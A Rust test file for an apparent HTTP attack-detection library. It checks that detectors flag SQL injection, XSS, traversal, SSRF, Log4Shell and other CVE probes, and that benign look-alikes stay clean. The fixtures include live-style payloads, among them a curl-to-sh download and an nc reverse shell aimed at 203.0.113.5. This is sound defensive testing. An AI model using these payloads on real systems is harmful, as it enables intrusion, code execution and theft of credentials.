//! Per-class positive and negative cases, with encodings and evasions, and the benign
//! look-alikes that must stay clean.

use std::sync::OnceLock;

use proptest::prelude::*;
use vigil_detect::{AttackClass, Detectors, Evidence, Location, Request, Strength};

fn detectors() -> &'static Detectors {
    static D: OnceLock<Detectors> = OnceLock::new();
    D.get_or_init(|| Detectors::builtin().expect("builtin detectors compile"))
}

fn inspect(req: Request<'_>) -> Evidence {
    let mut out = Evidence::new();
    detectors().inspect(&req, &mut out);
    out
}

fn get(target: &str) -> Evidence {
    inspect(Request {
        method: "GET",
        target,
        protocol: Some("HTTP/1.1"),
        user_agent: Some("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ..Request::default()
    })
}

#[track_caller]
fn assert_class(target: &str, class: AttackClass) {
    let e = get(target);
    assert!(
        e.has(class),
        "{target}: expected {class}, got {:?}",
        e.matches()
    );
}

#[track_caller]
fn assert_clean(target: &str) {
    let e = get(target);
    assert!(
        e.is_empty(),
        "{target}: expected clean, got {:?}",
        e.matches()
    );
}

#[test]
fn sqli() {
    for t in [
        "/item?id=1%27%20OR%20%271%27%3D%271",
        "/item?id=1+UNION+SELECT+username,password+FROM+users--",
        "/item?id=1%20UN/**/ION%20SEL/**/ECT%201,2,3",
        "/item?id=1%2520UNION%2520SELECT%2520NULL--",
        "/item?id=1%20uNiOn%20SeLeCt%20null,null",
        "/item?id=1;DROP+TABLE+users",
        "/item?id=1%20AND%20SLEEP(5)",
        "/item?name=admin%27--",
        "/item?id=1%27%20AND%20extractvalue(1,concat(0x7e,version()))--",
    ] {
        assert_class(t, AttackClass::Sqli);
    }
    let e = get("/item?id=1%27%20OR%20%271%27%3D%271");
    let m = &e.matches()[0];
    assert_eq!(m.location, Location::Query("id".into()));
    assert_eq!(m.strength, Strength::Strong);
    assert_eq!(e.describe(), "sqli in query parameter `id`");
}

#[test]
fn xss() {
    for t in [
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?q=%3Csvg%20onload%3Dalert(1)%3E",
        "/search?q=%3CsVg/OnLoAd%3Dalert(1)%3E",
        "/search?q=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
        "/search?q=%22%3E%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "/search?next=javascript:alert(1)",
        "/search?q=%22%20onmouseover%3D%22alert(1)",
        "/page/%3Cscript%3Ealert(1)%3C/script%3E",
    ] {
        assert_class(t, AttackClass::Xss);
    }
}

#[test]
fn traversal() {
    for t in [
        "/download?file=../../../../etc/passwd",
        "/download?file=..%2f..%2f..%2fetc%2fpasswd",
        "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "/static/..%c0%af..%c0%afetc/passwd",
        "/static/..%e0%80%af..%e0%80%afwindows/win.ini",
        "/download?file=..%5c..%5cwindows%5cwin.ini",
        "/download?file=....//....//etc/passwd",
        "/static/%u002e%u002e%u2215etc",
        "/app/..;/manager/html",
    ] {
        assert_class(t, AttackClass::Traversal);
    }
    assert!(get("/static/..%c0%afetc/passwd").has(AttackClass::Protocol));
}

#[test]
fn file_inclusion() {
    for t in [
        "/index.php?page=/etc/passwd",
        "/index.php?page=php://filter/convert.base64-encode/resource=index.php",
        "/index.php?page=http://203.0.113.9/shell.txt?",
        "/index.php?page=C:%5CWindows%5Cwin.ini",
        "/index.php?page=/proc/self/environ",
        "/index.php?page=expect://id",
        "/index.php?page=../../config.php%00",
    ] {
        let e = get(t);
        assert!(
            e.has(AttackClass::FileInclusion) || e.has(AttackClass::Traversal),
            "{t}: {:?}",
            e.matches()
        );
    }
    assert_class("/index.php?page=/etc/passwd", AttackClass::FileInclusion);
    assert_class("/index.php?page=php://input", AttackClass::FileInclusion);
}

#[test]
fn cmdi() {
    for t in [
        "/ping?host=127.0.0.1;id",
        "/ping?host=127.0.0.1%7Ccat%20/etc/passwd",
        "/ping?host=%24(whoami)",
        "/ping?host=%60id%60",
        "/ping?host=x%26%26curl%20http://203.0.113.5/x.sh%7Csh",
        "/ping?host=a;cat${IFS}/etc/passwd",
        "/ping?host=1%0Auname%20-a",
        "/ping?host=x|nc%20-e%20/bin/sh%20203.0.113.5%204444",
    ] {
        assert_class(t, AttackClass::Cmdi);
    }
}

#[test]
fn ssti() {
    for t in [
        "/hello?name=%7B%7B7*7%7D%7D",
        "/hello?name=$%7B7*7%7D",
        "/hello?name=%3C%25%3D%207*7%20%25%3E",
        "/hello?name={{config.__class__.__init__.__globals__}}",
        "/hello?name=${T(java.lang.Runtime).getRuntime().exec('id')}",
        "/hello?name=%23%7B7*7%7D",
        "/hello?name={{request.application.__globals__}}",
    ] {
        assert_class(t, AttackClass::Ssti);
    }
}

#[test]
fn ssrf() {
    for t in [
        "/fetch?url=http://169.254.169.254/latest/meta-data/",
        "/fetch?url=http://metadata.google.internal/computeMetadata/v1/",
        "/fetch?url=http://[fd00:ec2::254]/latest/meta-data/",
        "/fetch?url=file:///etc/passwd",
        "/fetch?url=gopher://127.0.0.1:6379/_INFO",
        "/fetch?url=dict://localhost:11211/stats",
        "/fetch?url=http://localhost:8080/admin",
        "/fetch?url=http://127.0.0.1/",
        "/fetch?url=http://0x7f000001/",
        "/fetch?url=http://2130706433/",
        "/fetch?url=http://[::1]:80/",
        "/fetch?url=http%3A%2F%2F169.254.169.254%2F",
    ] {
        assert_class(t, AttackClass::Ssrf);
    }
}

#[test]
fn sensitive_files() {
    for t in [
        "/.env",
        "/app/.env.production",
        "/.git/config",
        "/.git/HEAD",
        "/backup.sql",
        "/index.php.bak",
        "/index.php~",
        "/wp-config.php.bak",
        "/wp-config.php",
        "/server-status",
        "/.aws/credentials",
        "/phpmyadmin/index.php",
        "/actuator/env",
        "/.DS_Store",
        "/site.tar.gz",
    ] {
        assert_class(t, AttackClass::SensitiveFile);
    }
}

#[test]
fn scanner_user_agents() {
    for ua in [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 Nuclei",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
        "gobuster/3.6",
        "Fuzz Faster U Fool v2.1.0-dev",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    ] {
        let e = inspect(Request {
            method: "GET",
            target: "/",
            user_agent: Some(ua),
            ..Request::default()
        });
        assert!(e.has(AttackClass::ScannerUa), "{ua}: {:?}", e.matches());
        assert!(
            e.matches()
                .iter()
                .all(|m| m.location == Location::Header("user-agent")),
            "{ua}"
        );
    }
    for ua in [
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
        "curl/8.5.0",
        "python-requests/2.32.3",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "okhttp/4.12.0",
        "Go-http-client/2.0",
    ] {
        let e = inspect(Request {
            method: "GET",
            target: "/",
            user_agent: Some(ua),
            ..Request::default()
        });
        assert!(e.is_empty(), "{ua}: {:?}", e.matches());
    }
}

#[test]
fn cve_probes() {
    let cases = [
        ("/?x=${jndi:ldap://203.0.113.7/a}", "cve.CVE-2021-44228"),
        ("/?x=${${lower:j}ndi:ldap://x/a}", "cve.CVE-2021-44228"),
        (
            "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "cve.CVE-2022-22965",
        ),
        (
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
            "cve.CVE-2021-41773",
        ),
        (
            "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
            "cve.CVE-2021-41773",
        ),
        (
            "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp",
            "cve.CVE-2020-5902",
        ),
        ("/vpn/../vpns/cfg/smb.conf", "cve.CVE-2019-19781"),
        (
            "/autodiscover/autodiscover.json?@evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com",
            "cve.CVE-2021-34473",
        ),
        (
            "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/",
            "cve.CVE-2022-26134",
        ),
        (
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "cve.CVE-2017-9841",
        ),
        (
            "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
            "cve.CVE-2018-13379",
        ),
        (
            "/moveitisapi/moveitisapi.dll?action=m2",
            "cve.CVE-2023-34362",
        ),
    ];
    for (t, id) in cases {
        let e = get(t);
        assert!(
            e.matches().iter().any(|m| m.detector == id),
            "{t}: expected {id}, got {:?}",
            e.matches()
        );
    }
    // Log4Shell anywhere: the user agent too.
    let e = inspect(Request {
        method: "GET",
        target: "/",
        user_agent: Some("${jndi:ldap://203.0.113.7:1389/Exploit}"),
        ..Request::default()
    });
    assert!(e.has(AttackClass::CveProbe));
}

#[test]
fn protocol_anomalies() {
    let e = inspect(Request {
        method: "FOO",
        target: "/",
        ..Request::default()
    });
    assert!(
        e.matches()
            .iter()
            .any(|m| m.detector == "protocol.unknown_method")
    );
    let long = format!("/a?{}", "x".repeat(5000));
    let e = inspect(Request {
        method: "GET",
        target: &long,
        ..Request::default()
    });
    assert!(
        e.matches()
            .iter()
            .any(|m| m.detector == "protocol.uri_too_long")
    );
    for (t, id) in [
        ("/a?f=x%00.jpg", "protocol.null_byte"),
        ("/a?f=%zz", "protocol.bad_escape"),
        ("/a%c0%ae", "protocol.overlong_utf8"),
    ] {
        let e = get(t);
        assert!(
            e.matches().iter().any(|m| m.detector == id),
            "{t}: {:?}",
            e.matches()
        );
    }
    let e = inspect(Request {
        method: "GET",
        target: "/",
        protocol: Some("HTTP/1.7"),
        ..Request::default()
    });
    assert!(
        e.matches()
            .iter()
            .any(|m| m.detector == "protocol.bad_version")
    );
}

#[test]
fn separately_logged_query() {
    let e = inspect(Request {
        method: "GET",
        target: "/item",
        query: Some("id=1%27%20OR%20%271%27%3D%271"),
        ..Request::default()
    });
    assert!(e.has(AttackClass::Sqli), "{:?}", e.matches());
}

#[test]
fn benign_look_alikes() {
    for t in [
        "/search?q=select+a+plan",
        "/search?q=select%20the%20best%20plan%20for%20you",
        "/products?name=O%27Brien",
        "/products?name=O'Brien%27s+Irish+Pub",
        "/products?filter=%7B%22a%22%3A1%7D",
        "/products?filter={\"status\":\"active\",\"tags\":[\"new\",\"sale\"]}",
        "/search?q=union+station",
        "/search?q=union+station+to+select+city+walk",
        "/contact?email=jane.doe%40example.com",
        "/login?redirect=https%3A%2F%2Fwww.example.com%2Faccount%3Ftab%3Dorders",
        "/login?next=/account/orders",
        "/calc?expr=1%2B1",
        "/calc?expr=1+1",
        "/search?q=rock+%26+roll",
        "/search?q=tom+and+jerry",
        "/search?q=drop+shipping+and+delete+account",
        "/search?q=javascript%3A+the+good+parts",
        "/search?q=100%25+cotton",
        "/search?q=c%23+tutorial",
        "/search?q=what+is+1%3D1",
        "/search?q=5%22+screen+protector",
        "/api/v1/users/123/orders?page=2&per_page=50&sort=-created_at",
        "/blog/2024/05/select-your-plan",
        "/search?q=how+to+use+%3Cdiv%3E+tags",
        "/search?q=order+by+price",
        "/search?q=cat+food;+dog+food",
        "/wiki/Template:Infobox",
        "/search?q=sleep+8+hours",
        "/search?q=the+id+of+my+order",
    ] {
        assert_clean(t);
    }
}

#[test]
fn evidence_is_reused_and_cleared() {
    let mut out = Evidence::new();
    let d = detectors();
    d.inspect(
        &Request {
            method: "GET",
            target: "/?id=1%27%20OR%20%271%27%3D%271",
            ..Request::default()
        },
        &mut out,
    );
    assert!(!out.is_empty());
    d.inspect(
        &Request {
            method: "GET",
            target: "/home",
            ..Request::default()
        },
        &mut out,
    );
    assert!(out.is_empty());
}

#[test]
fn detectors_are_send_and_sync() {
    fn check<T: Send + Sync>() {}
    check::<Detectors>();
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]
    #[test]
    fn inspect_never_panics(
        method in "[A-Z]{0,8}",
        target in "\\PC{0,200}",
        ua in proptest::option::of("\\PC{0,80}"),
    ) {
        let _ = inspect(Request {
            method: &method,
            target: &target,
            query: None,
            protocol: None,
            user_agent: ua.as_deref(),
            referer: None,
        });
    }

    #[test]
    fn inspect_never_panics_on_escapes(target in "(/|%[0-9a-fA-Fu]{0,4}|%c0|%e0%80|[a-z.?&=;+<>'\"])*") {
        let _ = get(&target);
    }
}
